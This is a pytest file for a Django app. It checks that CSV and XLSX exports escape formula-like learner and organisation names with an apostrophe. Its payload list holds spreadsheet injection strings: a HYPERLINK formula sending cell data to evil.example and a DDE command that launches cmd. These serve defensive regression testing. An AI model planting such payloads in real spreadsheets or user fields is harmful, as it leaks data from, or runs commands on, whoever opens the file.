"""CSV and XLSX exports show formula-like text as text (issue 18, finding 6)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from intervisor.spreadsheets import safe_cell
from tests.conftest import totp_activate
from tests.factories.courses import enrol, make_course
from tests.factories.workshops import make_booking, make_date, make_organisation, make_workshop_page

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_get_an_apostrophe(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Anna de Vries", "", 3, 2.5, None, "a=b", "jan@example.test"])
def test_other_values_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_learners_name_lands_as_text_in_the_cohort_csv(
    client, provider, learner, trainer, payload
):
    course = make_course(provider)
    learner.first_name, learner.last_name = payload, ""
    learner.save()
    enrol(learner, course)
    client.force_login(trainer)
    body = client.get(reverse("courses:cohort_csv", args=[course.pk])).content.decode()
    names = [row[0] for row in csv.reader(io.StringIO(body))][1:]
    assert names == ["'" + payload.strip()] or names == ["'" + payload]


@pytest.mark.django_db
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_an_organisation_name_lands_as_text_in_the_bookings_export(
    client, provider, editor, trainer, team_lead, export
):
    payload = '=HYPERLINK("http://evil.example")'
    wdate = make_date(make_workshop_page(provider), trainer, days_ahead=30)
    make_booking(wdate, team_lead, organisation=make_organisation(team_lead, name=payload))
    totp_activate(editor)
    client.force_login(editor)
    response = client.get(reverse("workshopbooking:index") + f"?export={export}")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export == "csv":
        rows = list(csv.reader(io.StringIO(content.decode())))
        cells = [cell for row in rows[1:] for cell in row]
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "'" + payload in cells
    assert payload not in cells
